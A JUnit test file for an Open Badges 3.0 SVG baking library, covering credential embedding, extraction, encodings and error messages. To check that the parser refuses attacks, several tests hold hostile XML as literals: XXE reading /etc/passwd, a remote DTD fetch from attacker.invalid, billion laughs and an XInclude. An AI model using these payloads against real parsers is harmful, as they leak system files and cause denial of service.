package io.certbadge.media;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

class SvgBakingTest {

    private static final String OB_NAMESPACE = "https://purl.imsglobal.org/ob/v3p0";
    private static final String JWT = "eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9"
            + ".eyJpc3MiOiJodHRwczovL2JhZGdlcy5leGFtcGxlLmNvbS9pc3N1ZXIifQ.c2lnbmF0dXJl";
    private static final String OTHER_JWT = "eyJhbGciOiJSUzI1NiJ9.eyJqdGkiOiJ1cm46dXVpZDoxIn0.b3RoZXI";
    private static final String SVG_NAMESPACE = "xmlns=\"http://www.w3.org/2000/svg\"";
    private static final String SVG_OPEN = "<svg " + SVG_NAMESPACE + " xmlns:openbadges=\"" + OB_NAMESPACE + "\">";
    private static final String ARTWORK = "<svg " + SVG_NAMESPACE + " viewBox=\"0 0 10 10\"><rect width=\"10\"/></svg>";
    private static final String REFUSED_DOCTYPE =
            "The SVG file declares a DOCTYPE with its own declarations, which is not accepted.";

    /** Characters that change what an XML parser sees, for the damaged-file round. */
    private static final String XML_NOISE = "<>&\"';[]!?-\0\u00ff";

    private final SvgBaking baking = new SvgBaking();

    @Test
    void shouldRoundTripCredentialThroughBakeAndUnbake() {
        String baked = baking.bake(ARTWORK, JWT);

        assertEquals(JWT, baking.unbake(utf8(baked)));
    }

    @Test
    void shouldDeclareNamespaceOnRootAndPutCredentialFirst() throws Exception {
        Element root = TestXml.parse(baking.bake(ARTWORK, JWT)).getDocumentElement();

        assertEquals(OB_NAMESPACE, root.getAttribute("xmlns:openbadges"), "OB 3.0 §5.3.2: xmlns:openbadges on the svg element");
        Element first = firstChildElement(root);
        assertEquals(OB_NAMESPACE, first.getNamespaceURI());
        assertEquals("openbadges:credential", first.getTagName(), "OB 3.0 §5.3.2: the credential element follows the svg tag");
        assertEquals(JWT, first.getAttribute("verify"));
    }

    @Test
    void shouldBakeBadgeArtworkAndKeepItParseable() throws Exception {
        String svg = new BadgeArtworkRenderer().svg(new BadgeDesign("Certified Trainer", "GitLab CI/CD", "#1f6feb"));

        String baked = baking.bake(svg, JWT);

        assertNotNull(TestXml.parse(baked));
        assertEquals(JWT, baking.unbake(utf8(baked)));
    }

    @Test
    void shouldReplaceExistingCredentialWhenBakedAgain() {
        String rebaked = baking.bake(baking.bake(ARTWORK, OTHER_JWT), JWT);

        assertEquals(JWT, baking.unbake(utf8(rebaked)));
        assertFalse(rebaked.contains(OTHER_JWT));
        assertEquals(1, occurrences(rebaked, "xmlns:openbadges="));
    }

    @Test
    void shouldBakeSvgWhoseRootIsSelfClosing() throws Exception {
        String baked = baking.bake("<?xml version=\"1.0\"?><!-- empty --><svg xmlns=\"http://www.w3.org/2000/svg\"/>", JWT);

        assertEquals(JWT, baking.unbake(utf8(baked)));
        assertEquals("svg", TestXml.parse(baked).getDocumentElement().getLocalName());
    }

    @Test
    void shouldBake1EdTechFixtureKeepingItsNamespaceDeclarationAndDoctype() {
        String fixture = new String(fixture(), StandardCharsets.UTF_8);

        String baked = baking.bake(fixture, JWT);

        assertEquals(JWT, baking.unbake(utf8(baked)));
        assertEquals(1, occurrences(baked, "xmlns:openbadges="));
        assertTrue(baked.contains("<!DOCTYPE svg PUBLIC"));
    }

    @Test
    void shouldEscapeCredentialPlacedInAttribute() {
        String awkward = "a\"b<c&d";

        assertEquals(awkward, baking.unbake(utf8(baking.bake(ARTWORK, awkward))));
    }

    @Test
    void shouldUnbakeJwtFrom1EdTechFixture() {
        assertTrue(baking.unbake(fixture()).startsWith("eyJ"));
    }

    @Test
    void shouldUnbakeJsonCredentialEmbeddedAsCdata() {
        String svg = SVG_OPEN
                + "<openbadges:credential><![CDATA[{\"type\": [\"OpenBadgeCredential\"]}]]></openbadges:credential></svg>";

        assertEquals("{\"type\": [\"OpenBadgeCredential\"]}", baking.unbake(utf8(svg)));
    }

    @Test
    void shouldUnbakeSvgInTheEncodingItsDeclarationNames() {
        String svg = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + SVG_OPEN + "<title>Caf\u00e9</title>"
                + "<openbadges:credential verify=\"" + JWT + "\"/></svg>";

        assertEquals(JWT, baking.unbake(svg.getBytes(StandardCharsets.ISO_8859_1)));
    }

    @Test
    void shouldUnbakeUtf16SvgWithByteOrderMark() {
        String svg = "\uFEFF" + SVG_OPEN + "<openbadges:credential verify=\"" + JWT + "\"/></svg>";

        assertEquals(JWT, baking.unbake(svg.getBytes(StandardCharsets.UTF_16LE)));
    }

    @Test
    void shouldReadCredentialUnderAnyPrefixBoundToTheOb3Namespace() {
        String svg = "<svg " + SVG_NAMESPACE + " xmlns:ob=\"" + OB_NAMESPACE + "\">"
                + "<ob:credential verify=\"" + JWT + "\"/></svg>";

        assertEquals(JWT, baking.unbake(utf8(svg)));
    }

    @Test
    void shouldTreatXIncludeAsPlainElementAndNeverReadTheIncludedFile() {
        String svg = "<svg " + SVG_NAMESPACE + " xmlns:xi=\"http://www.w3.org/2001/XInclude\" xmlns:openbadges=\""
                + OB_NAMESPACE + "\"><openbadges:credential verify=\"" + JWT + "\"/>"
                + "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></svg>";

        assertEquals(JWT, baking.unbake(utf8(svg)));
    }

    @Test
    void shouldRefuseXxeAndNeverExposeFileContent() {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + SVG_OPEN + "<openbadges:credential>&xxe;</openbadges:credential></svg>";

        BadgeImageException refused = assertRefused(xxe, REFUSED_DOCTYPE);
        assertFalse(String.valueOf(refused.getCause()).contains("root:"));
    }

    @Test
    void shouldRefuseParameterEntityFetchingRemoteDtd() {
        String svg = "<!DOCTYPE svg [<!ENTITY % remote SYSTEM \"http://attacker.invalid/evil.dtd\"> %remote;]>"
                + SVG_OPEN + "<openbadges:credential verify=\"" + JWT + "\"/></svg>";

        assertRefused(svg, REFUSED_DOCTYPE);
    }

    @Test
    void shouldRefuseBillionLaughs() {
        StringBuilder doctype = new StringBuilder("<!DOCTYPE svg [<!ENTITY lol0 \"lol\">");
        for (int level = 1; level <= 9; level++) {
            String previous = "&lol" + (level - 1) + ";";
            doctype.append("<!ENTITY lol").append(level).append(" \"").append(previous.repeat(10)).append("\">");
        }
        String svg = doctype.append("]>").append(SVG_OPEN)
                .append("<openbadges:credential>&lol9;</openbadges:credential></svg>").toString();

        assertRefused(svg, REFUSED_DOCTYPE);
    }

    @Test
    void shouldRefuseEntityReferenceThatNoDtdDeclares() {
        String svg = SVG_OPEN + "<openbadges:credential verify=\"&nbsp;" + JWT + "\"/></svg>";

        assertRefused(svg, "The SVG file is not well-formed XML.");
    }

    @Test
    void shouldRefuseFileThatIsNotXml() {
        assertRefused("this is not { xml", "The SVG file is not well-formed XML.");
    }

    @Test
    void shouldRefuseTruncatedSvg() {
        assertRefused(SVG_OPEN + "<openbadges:credential verify=\"" + JWT + "\"/>", "The SVG file is not well-formed XML.");
    }

    @Test
    void shouldRefuseSvgThatIsNotValidUtf8() {
        byte[] latin1WithoutDeclaration = (SVG_OPEN + "<title>Caf\u00e9</title></svg>").getBytes(StandardCharsets.ISO_8859_1);

        BadgeImageException refused = assertThrows(BadgeImageException.class, () -> baking.unbake(latin1WithoutDeclaration));

        assertEquals("The SVG file is not valid UTF-8 text.", refused.getMessage());
    }

    @Test
    void shouldRefuseXmlWhoseRootIsNotSvg() {
        assertRefused("<html xmlns:openbadges=\"" + OB_NAMESPACE + "\"><openbadges:credential verify=\"x\"/></html>",
                "The file is not an SVG image.");
    }

    @Test
    void shouldRefuseSvgWithoutCredential() {
        assertRefused(ARTWORK, "The SVG file has no Open Badges credential baked in.");
    }

    @Test
    void shouldRefuseCredentialOutsideTheOb3Namespace() {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"http://openbadges.org\">"
                + "<openbadges:credential verify=\"" + JWT + "\"/></svg>";

        assertRefused(svg, "The SVG file has no Open Badges credential baked in.");
    }

    @Test
    void shouldRefuseSvgWithTwoCredentials() {
        String credential = "<openbadges:credential verify=\"" + JWT + "\"/>";

        assertRefused(SVG_OPEN + credential + credential + "</svg>",
                "The SVG file has more than one Open Badges credential baked in, so it is ambiguous.");
    }

    @Test
    void shouldRefuseEmptyCredential() {
        assertRefused(SVG_OPEN + "<openbadges:credential verify=\" \"/></svg>",
                "The Open Badges credential baked into the SVG file is empty.");
    }

    @Test
    void shouldRefuseCredentialHoldingMarkup() {
        assertRefused(SVG_OPEN + "<openbadges:credential><b>x</b></openbadges:credential></svg>",
                "The Open Badges credential in the SVG file holds markup instead of a credential.");
    }

    @Test
    void shouldRefuseSvgOverFiveMebibytes() {
        byte[] huge = new byte[5 * 1024 * 1024 + 1];
        Arrays.fill(huge, (byte) ' ');

        BadgeImageException refused = assertThrows(BadgeImageException.class, () -> baking.unbake(huge));

        assertEquals("The SVG file is larger than 5 MiB, which is not accepted.", refused.getMessage());
    }

    @Test
    void shouldRefuseEmptyFile() {
        assertRefused("", "The file is empty.");
    }

    @Test
    void shouldRefuseBakingWhenOpenbadgesPrefixMeansAnotherNamespace() {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"http://openbadges.org\"/>";

        BadgeImageException refused = assertThrows(BadgeImageException.class, () -> baking.bake(svg, JWT));

        assertEquals("The SVG file uses the openbadges prefix for another namespace, so it cannot be baked.",
                refused.getMessage());
    }

    @Test
    void shouldRefuseBakingIntoXxeDocument() {
        String xxe = "<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><svg " + SVG_NAMESPACE + ">&xxe;</svg>";

        assertThrows(BadgeImageException.class, () -> baking.bake(xxe, JWT));
    }

    @Test
    void shouldRejectBlankCredentialWhenBaking() {
        assertThrows(IllegalArgumentException.class, () -> baking.bake(ARTWORK, " "));
    }

    @Test
    void shouldOnlyEverAnswerWithCredentialOrBadgeImageExceptionForDamagedFiles() {
        byte[] svg = fixture();
        Random random = new Random(20261015L);

        for (int round = 0; round < 400; round++) {
            byte[] damaged = round % 2 == 0 ? Arrays.copyOf(svg, random.nextInt(svg.length)) : overwriteBytes(svg, random);
            try {
                assertNotNull(baking.unbake(damaged));
            } catch (BadgeImageException expected) {
                assertTrue(expected.getMessage().endsWith("."), "a user-facing sentence: " + expected.getMessage());
            } catch (RuntimeException unexpected) {
                throw new AssertionError("round " + round + " threw " + unexpected, unexpected);
            }
        }
    }

    private BadgeImageException assertRefused(String svg, String sentence) {
        BadgeImageException refused = assertThrows(BadgeImageException.class, () -> baking.unbake(utf8(svg)));
        assertEquals(sentence, refused.getMessage());
        return refused;
    }

    private static byte[] overwriteBytes(byte[] svg, Random random) {
        byte[] damaged = svg.clone();
        for (int writes = 1 + random.nextInt(4); writes > 0; writes--) {
            damaged[random.nextInt(damaged.length)] = (byte) XML_NOISE.charAt(random.nextInt(XML_NOISE.length()));
        }
        return damaged;
    }

    private static byte[] fixture() {
        return Fixtures.baked("simple-jwt.svg");
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static int occurrences(String text, String part) {
        return text.split(Pattern.quote(part), -1).length - 1;
    }

    private static Element firstChildElement(Element parent) {
        for (Node child = parent.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child instanceof Element element) {
                return element;
            }
        }
        throw new AssertionError("no child element");
    }
}
